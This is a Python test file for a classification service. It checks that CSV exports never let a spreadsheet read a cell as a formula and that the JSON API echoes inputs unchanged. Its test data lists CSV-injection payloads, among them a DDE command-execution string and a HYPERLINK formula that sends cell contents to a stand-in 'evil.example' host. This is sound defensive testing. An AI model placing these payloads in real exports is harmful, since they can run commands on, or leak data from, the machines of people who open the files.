"""No spreadsheet takes a cell of an export for a formula, whatever somebody has typed; and JSON says what was typed."""

import ast
import csv
import io
import re
from collections.abc import Sequence
from datetime import date
from typing import Any

import pytest
from django.utils import timezone
from hypothesis import given, seed, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from classifier import results
from classifier.models import Classification
from classifier.results import Answered, Wanted
from frontend import monthly
from frontend.monthly import Line
from tenants import isolation
from tenants.models import Organisation
from tests.abuse import odd
from tests.abuse.conftest import QUIET
from tests.conventions.sources import PACKAGES, modules, parsed
from tests.form import SEED, cases

pytestmark = pytest.mark.proves("exports", "code", "formulas in labels, inputs, and names of models and keys")

CASES = cases(short=60, long=1_000)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][+-]?\d+)?")
# Where the product writes CSV. Any other place must be tried here as well.
WRITERS = {
    "classifier/results.py",
    "frontend/monthly.py",
    "frontend/presenters/datasets.py",  # A line that is shown in a form, and comes back as it is.
}

formulas = st.sampled_from(
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1)',
        "@SUM(A1:A9)",
        "+1+1",
        "-1+1",
        "-5",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '"=1+1',
        '","=1+1',
        "'=1+1",
        ";=1+1",
    ]
)
# What PostgreSQL and the API take.
texts = (formulas | odd.texts | st.text(st.characters(codec="utf-8"), min_size=1)).filter(
    lambda text: "\0" not in text and 0 < len(text) <= 500
)
models = texts.map(lambda text: text[:80])
columns = st.dictionaries(texts, texts | st.integers() | st.booleans() | st.none(), min_size=1, max_size=3)


def dangerous(exported: str) -> list[str]:
    """Return the cells that a spreadsheet would take for a formula."""
    rows = csv.reader(io.StringIO(exported, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)]


def answered(model: str, inputs: Sequence[Any], labels: Sequence[str]) -> Answered:
    request = {"id": "cls_export", "model": model, "inputs": inputs, "top_k": 1, "explain": False, "api_key": "key_1"}
    said = [{"index": n, "label": label, "confidence": 0.5, "scores": []} for n, label in enumerate(labels)]
    reply = {"id": "cls_export", "version": 1, "results": said, "warnings": []}
    return Answered({**request, "keep_seconds": 3_600, "keep_inputs": True}, reply, timezone.now())


@pytest.fixture
def kept(acme: Organisation) -> None:
    """Nothing but what the test itself keeps."""
    with isolation.entered(acme):
        Classification.objects.all().delete()


def test_no_cell_of_the_answers_is_a_formula(acme: Organisation, api: APIClient, kept: None) -> None:
    @seed(SEED)
    @settings(QUIET, max_examples=CASES)
    @given(
        model=texts.map(lambda text: text[:80]), inputs=st.lists(texts | columns, min_size=1, max_size=4), label=texts
    )
    def export(model: str, inputs: list[Any], label: str) -> None:
        labels = [label] * len(inputs)
        with isolation.entered(acme):
            results.record([answered(model, inputs, labels)])
            with results.as_csv(Wanted()) as file:
                exported = file.read().decode()
        [shown] = api.get("/api/v1/classifications").json()["data"]
        over_http = b"".join(api.get("/api/v1/classifications?format=csv").streaming_content)  # type: ignore[attr-defined]
        with isolation.entered(acme):
            Classification.objects.all().delete()
        assert dangerous(exported) == []
        assert over_http.decode() == exported
        assert len(list(csv.reader(io.StringIO(exported, newline="")))) == len(inputs) + 1
        # JSON is read by programs, and says what was said.
        assert (shown["model"], shown["inputs"]) == (model, inputs)
        assert [result["label"] for result in shown["results"]] == labels

    export()


def test_no_cell_of_the_usage_is_a_formula() -> None:
    @seed(SEED)
    @settings(QUIET, max_examples=CASES)
    @given(key=texts, model=texts, rows=st.integers(0, 2**60))
    def export(key: str, model: str, rows: int) -> None:
        file = io.StringIO(newline="")
        monthly.write([Line(date(2026, 1, 31), key, model, 1, rows, 0, "key_1")], file)
        assert dangerous(file.getvalue()) == []
        [_, line] = csv.reader(io.StringIO(file.getvalue(), newline=""))
        assert line[3:] == ["1", str(rows), "0"]

    export()


def test_every_place_that_writes_csv_is_tried_here() -> None:
    found = {str(path) for path in modules(*PACKAGES) if any(map(writes_csv, ast.walk(parsed(path))))}
    assert found == WRITERS


def writes_csv(node: ast.AST) -> bool:
    return isinstance(node, ast.Call) and ast.unparse(node.func) in {"csv.writer", "csv.DictWriter"}


@pytest.mark.control
@pytest.mark.parametrize("cell", ["=1+1", "\t=1", "@a", "-1+1", "\0=1"])
def test_a_formula_in_an_export_would_be_seen(cell: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([["a", "b"], ["harmless, and -5 is a number", cell], [-5, 0.1]])
    assert dangerous(file.getvalue()) == [cell]
